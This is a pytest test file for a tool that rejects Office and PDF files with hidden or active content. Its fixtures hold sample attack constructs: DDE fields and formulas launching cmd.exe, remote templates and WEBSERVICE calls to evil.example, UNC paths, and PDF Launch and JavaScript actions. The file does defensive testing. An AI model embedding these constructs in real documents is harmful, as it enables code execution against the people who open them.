"""Places where Office files and PDFs hold what no page shows at once, and what acts: such documents are kept back.

Kinds from ECMA-376 part 1, MS-XLSX, MS-QDEFF and ISO 32000-2; the numbers are invented.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from tambon_showcase.content.documents import inspect
from tambon_showcase.finding import Where
from tests.content.papers import in_word, office, pdf, saved

ID, DASHED, MOBILE = "1234567890121", "1-2345-67890-12-1", "0812345679"
_SHEETS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_THREADS = 'xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"'
_ROWS = f"<worksheet {_SHEETS}><sheetData>{{}}</sheetData>{{}}</worksheet>"
SHEET = "xl/worksheets/sheet1.xml"
_RUN = "<w:r>{}<w:t>{}</w:t></w:r>"
_ABOVE = '<w:rPr baseline="30000"/>'
_RAISED = '<w:rPr><w:vertAlign w:val="superscript"/></w:rPr>'


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    ends = (f'<w:r><w:fldChar w:fldCharType="{end}"/></w:r>' for end in ("begin", "end"))
    return in_word(f"<w:p>{runs.join(ends)}</w:p>")


def outside(kind: str, target: str) -> str:
    space = "http://schemas.openxmlformats.org"
    return (
        f'<Relationships xmlns="{space}/package/2006/relationships"><Relationship Id="r" TargetMode="External" '
        f'Type="{space}/officeDocument/2006/relationships/{kind}" Target="{target}"/></Relationships>'
    )


def paragraph(words: str) -> str:
    return in_word(f"<w:p><w:r>{words}</w:r></w:p>")


PARTS: dict[str, tuple[str, str, str]] = {
    "a field in pieces": ("docx", "word/a.xml", field("INCLUDE", 'PICTURE "http://evil.example/a.png"')),
    "DDE in pieces": ("docx", "word/a.xml", field("DDE", 'AUTO c:\\\\cmd.exe "/k calc"')),
    "a text of another machine": ("docx", "word/a.xml", field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')),
    "a template": ("docx", "word/_rels/settings.xml.rels", outside("attachedTemplate", "http://evil.example/t.dotm")),
    "a frame": ("docx", "word/_rels/webSettings.xml.rels", outside("frame", "http://evil.example/f.htm")),
    "a linked object": ("docx", "word/_rels/document.xml.rels", outside("oleObject", "file:///c:/a.xls")),
    "deleted words": ("docx", "word/a.xml", paragraph(f"<w:delText>เลขบัตร {DASHED}</w:delText>")),
    "hidden words": ("docx", "word/a.xml", paragraph(f"<w:rPr><w:vanish/></w:rPr><w:t>{DASHED}</w:t>")),
    "a remark between two elements": ("docx", "word/a.xml", in_word(f"<w:p/><!-- เลขบัตร {DASHED} -->")),
    "a remark behind the last element": ("xlsx", SHEET, _ROWS.format("", "") + f"<!-- {ID} -->"),
    "a word to programs": ("docx", "word/a.xml", f"<?a {MOBILE}?>" + in_word("<w:p/>")),
    "a style sheet of another machine": ("docx", "word/a.xml", '<?xml-stylesheet href="http://evil.example/a.xsl"?>' + in_word("<w:p/>")),
    "a number around a raised mark": ("docx", "word/a.xml", in_word(f"<w:p>{_RUN.format('', '081-234')}{_RUN.format(_RAISED, '1')}{_RUN.format('', '-5679')}</w:p>")),
    "a number around a mark on a slide": ("pptx", "ppt/slides/slide1.xml", f"<p:sld xmlns:p='p' xmlns:w='a'><w:p>{_RUN.format('', '081-234')}{_RUN.format(_ABOVE, '1')}{_RUN.format('', '-5679')}</w:p></p:sld>"),
    "a building block": ("docx", "word/glossary/document.xml", paragraph(f"<w:t>{DASHED}</w:t>")),
    "data beside the text": ("docx", "customXml/item1.xml", f"<a><b id='{ID}'>x</b></a>"),
    "a telephone that a link dials": ("docx", "word/_rels/document.xml.rels", outside("hyperlink", f"tel:{MOBILE}")),
    "mail that a link begins": ("docx", "word/_rels/document.xml.rels", outside("hyperlink", "mailto:somsri.k@gmail.com")),
    "words along a line": ("docx", "word/a.xml", f'<a xmlns:v="v"><v:textpath string="Tel {MOBILE}"/></a>'),
    "help for a form": ("docx", "word/a.xml", in_word(f'<w:helpText w:val="{MOBILE}"/>')),
    "the name of a bookmark": ("docx", "word/a.xml", in_word(f'<w:bookmarkStart w:name="n{MOBILE}"/>')),
    "two numbers one behind the other": ("docx", "customXml/item1.xml", f"<a><b>{MOBILE}</b><c>12</c></a>"),
    "the name of a part": ("docx", f"customXml/{MOBILE}.xml", "<a/>"),
    "what a filter keeps": ("xlsx", SHEET, _ROWS.format("", f'<autoFilter><filter val="{MOBILE}"/></autoFilter>')),
    "who remarked, and on what": ("xlsx", "xl/comments1.xml", f"<comments {_SHEETS}><author>{MOBILE}</author><t>12</t></comments>"),
    "a person and an illness in two cells": (
        "docx", "word/a.xml",
        in_word("<w:tbl><w:tr><w:tc><w:p><w:t>นางสมร แก้วดี</w:t></w:p></w:tc><w:tc><w:p><w:t>ป่วยติดเตียง</w:t></w:p></w:tc></w:tr></w:tbl>"),
    ),
    "Power Query": ("xlsx", "customXml/item1.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'),
    "connections": ("xlsx", "xl/connections.xml", f"<connections {_SHEETS}><connection id='1'/></connections>"),
    "another workbook": ("xlsx", "xl/externalLinks/externalLink1.xml", f"<externalLink {_SHEETS}/>"),
    "DDE in a cell": ("xlsx", SHEET, _ROWS.format("<row><c><f>cmd|'/c calc'!A0</f></c></row>", "")),
    "a request": ("xlsx", SHEET, _ROWS.format('<row><c><f>_xlfn.WEBSERVICE("http://evil.example")</f></c></row>', "")),
    "a summary's records": ("xlsx", "xl/pivotCache/pivotCacheRecords1.xml", f'<pivotCacheRecords {_SHEETS}><r><s v="{DASHED}"/></r></pivotCacheRecords>'),
    "a summary's items": (
        "xlsx", "xl/pivotCache/pivotCacheDefinition1.xml",
        f'<pivotCacheDefinition {_SHEETS}><sharedItems><s v="นางสมร แก้วดี ป่วยติดเตียง"/></sharedItems></pivotCacheDefinition>',
    ),
    "a thread of remarks": ("xlsx", "xl/threadedComments/threadedComment1.xml", f"<ThreadedComments {_THREADS}><text>{ID}</text></ThreadedComments>"),
    "who remarked": ("xlsx", "xl/persons/person.xml", f'<personList {_THREADS}><person userId="somchai.k@gmail.com"/></personList>'),
    "what may be chosen": ("xlsx", SHEET, _ROWS.format("", f'<dataValidation><formula1>"{ID},2"</formula1></dataValidation>')),
    "a scenario": ("xlsx", SHEET, _ROWS.format("", f'<scenario name="{ID}"/>')),
    "digits worked out": (
        "xlsx", SHEET,
        _ROWS.format(f"<row>{''.join(f'<c><f>MID($A$9,{at},1)</f><v>{digit}</v></c>' for at, digit in enumerate(ID, 1))}</row>", ""),
    ),
    "notes of a slide": ("pptx", "ppt/notesSlides/notesSlide1.xml", f'<p:notes xmlns:p="p" xmlns:a="a"><a:p><a:r><a:t>{DASHED}</a:t></a:r></a:p></p:notes>'),
    "a hidden slide": ("pptx", "ppt/slides/slide1.xml", f'<p:sld xmlns:p="p" xmlns:a="a" show="0"><a:p><a:r><a:t>{DASHED}</a:t></a:r></a:p></p:sld>'),
    "a program on hover": ("pptx", "ppt/slides/slide1.xml", '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkMouseOver action="ppaction://program"/></p:sld>'),
    "a film elsewhere": ("pptx", "ppt/slides/_rels/slide1.xml.rels", outside("video", "http://evil.example/v.mp4")),
    "a mark of a program": ("pptx", "ppt/tags/tag1.xml", f'<p:tagLst xmlns:p="p"><p:tag name="x" val="{ID}"/></p:tagLst>'),
}  # fmt: skip


@pytest.mark.parametrize("name", PARTS)
def test_a_part_that_hides_or_acts_keeps_the_file_back(name: str, tmp_path: Path) -> None:
    kind, part, content = PARTS[name]
    assert is_kept_back(tmp_path / f"a.{kind}", office(kind, **{part: content}))


def is_kept_back(path: Path, data: bytes) -> bool:
    path.write_bytes(data)
    document, findings = inspect(path, Where(path.name))
    assert not any(ID in finding.message or DASHED in finding.message for finding in findings)
    return document is None


def drawn(commands: str) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].contents_add(document.make_stream(commands.encode()))

    return change


def noted(**keys: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 50, 50]), **keys)
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return change


def hidden_layer(document: pikepdf.Pdf) -> None:
    layer = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("L")))
    document.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))
    document.pages[0].Resources.Properties = Dictionary(M0=layer)
    drawn(f"/OC /M0 BDC BT /F1 12 Tf 20 50 Td ({DASHED}) Tj ET EMC")(document)


def attached(document: pikepdf.Pdf) -> None:
    file = document.make_stream(ID.encode(), {"/Type": Name.EmbeddedFile})
    document.Root.AF = Array([document.make_indirect(Dictionary(F=String("a.csv"), EF=Dictionary(F=file)))])


def cropped(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.CropBox = Array([0, 0, 100, 100])
    drawn(f"BT /F1 12 Tf 20 250 Td ({DASHED}) Tj ET")(document)


def scripted(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("1")))


def bookmarked(document: pikepdf.Pdf) -> None:
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem(DASHED, 0))


PAGES: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "an act of a page": scripted,
    "a program": noted(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "a file of another machine": noted(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\a.pdf"))),
    "a form sent away": noted(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm)),
    "a scene": noted(Subtype=Name("/3D")),
    "a film": noted(Subtype=Name.RichMedia),
    "a file inside": attached,
    "a form of XML": lambda document: document.Root.__setitem__("/AcroForm", Dictionary(XFA=document.make_stream(b"<x/>"))),
    "outside the crop": cropped,
    "outside the page": drawn(f"BT /F1 12 Tf 900 900 Td ({DASHED}) Tj ET"),
    "invisible": drawn(f"BT 3 Tr /F1 12 Tf 20 50 Td ({DASHED}) Tj ET"),
    "white": drawn(f"1 1 1 rg BT /F1 12 Tf 20 50 Td ({DASHED}) Tj ET"),
    "tiny": drawn(f"BT /F1 0.01 Tf 20 50 Td ({DASHED}) Tj ET"),
    "cut away": drawn(f"q 0 0 1 1 re W n BT /F1 12 Tf 20 50 Td ({DASHED}) Tj ET Q"),
    "a hidden layer": hidden_layer,
    "another text for letters": drawn(f"/Span <</ActualText ({DASHED})>> BDC BT /F1 9 Tf (x) Tj ET EMC"),
    "a remark": noted(Subtype=Name.Text, Contents=String(DASHED)),
    "a bookmark": bookmarked,
    "the name of a style": lambda document: document.Root.__setitem__("/StructTreeRoot", Dictionary(RoleMap=Dictionary({f"/{MOBILE}": Name.P}))),
    "the summary of a table": lambda document: document.Root.__setitem__("/StructTreeRoot", Dictionary(K=Dictionary(A=Dictionary(Summary=String(f"Tel {MOBILE}"))))),
    "a name that a page gives a typeface": lambda document: document.pages[0].Resources.Font.F1.__setitem__("/BaseFont", Name(f"/{MOBILE}")),
}  # fmt: skip


@pytest.mark.parametrize("name", PAGES)
def test_a_page_that_hides_or_acts_keeps_the_file_back(name: str, tmp_path: Path) -> None:
    document = pikepdf.open(io.BytesIO(pdf("Plan")))
    PAGES[name](document)
    assert is_kept_back(tmp_path / "a.pdf", saved(document))


def test_what_an_earlier_revision_showed_is_not_published(tmp_path: Path) -> None:
    path = tmp_path / "a.pdf"
    path.write_bytes(pdf(DASHED) + b"\n" + pdf("Plan"))
    document, _ = inspect(path, Where(path.name))
    assert document is not None and document.facts.text.strip() == "Plan"
    assert not any(DASHED.encode() in content for content in contents(document.data))


def contents(data: bytes) -> list[bytes]:
    with pikepdf.open(io.BytesIO(data)) as document:
        return [item.read_bytes() for item in document.objects if isinstance(item, pikepdf.Stream)]
